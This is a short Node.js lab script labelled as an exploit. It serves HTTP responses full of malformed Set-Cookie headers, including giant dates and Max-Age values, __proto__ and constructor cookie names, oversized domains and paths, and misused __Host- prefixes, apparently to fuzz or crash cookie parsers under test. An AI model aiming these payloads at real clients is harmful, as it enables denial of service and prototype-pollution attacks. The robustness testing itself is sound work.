// exploit: sets cookies whose attributes are to break who reads them: dates of thousands of digits, lives beyond numbers, domains and paths of every script, names of objects
// kind: lab
// steps: visit / | wait 1 | visit /again | GET /
// outcome: finished
// sees: "status":200
const long = (text, length) => text.repeat(length)
const cookies = [
  `a=1; Expires=${long('1:', 1200)}`,
  `b=1; Expires=${long('Mon ', 600)}99 Feb 99999 99:99:99`,
  `c=1; Max-Age=${long('9', 2000)}`,
  'd=1; Max-Age=-0x10; Max-Age=1e400; Max-Age=NaN',
  '__proto__=1; Path=/__proto__; Domain=constructor',
  'toString=x; HttpOnly=__proto__; SameSite=constructor; Priority=__proto__',
  `e=1; Domain=${long('.', 300)}shop.test${long('.', 300)}`,
  `f=1; Path=/${long('%', 1500)}`,
  `${long(';', 2000)}`,
  `g=${long('=', 2000)}; ${long('SameSite=None; Secure; Partitioned; ', 50)}`,
  '__Host-h=1; Secure; Path=/; Domain=shop.test',
  `=${long(' ', 1500)}x`,
  `i=1; Expires=Thu, 01 Jan 1600 00:00:00 GMT; Expires=Fri, 31 Dec 9999 23:59:59 GMT; Domain=xn--${long('a', 300)}.test`,
]
require('node:net').createServer((socket) => socket.on('error', () => {}).once('data', () => socket.end(`HTTP/1.1 200 OK\r\n${cookies.map((cookie) => `Set-Cookie: ${cookie}\r\n`).join('').slice(0, 15_000).replace(/\r\n[^\r]*$/, '\r\n')}Content-Length: 1\r\n\r\nx`, 'latin1'))).listen(process.env.PORT)
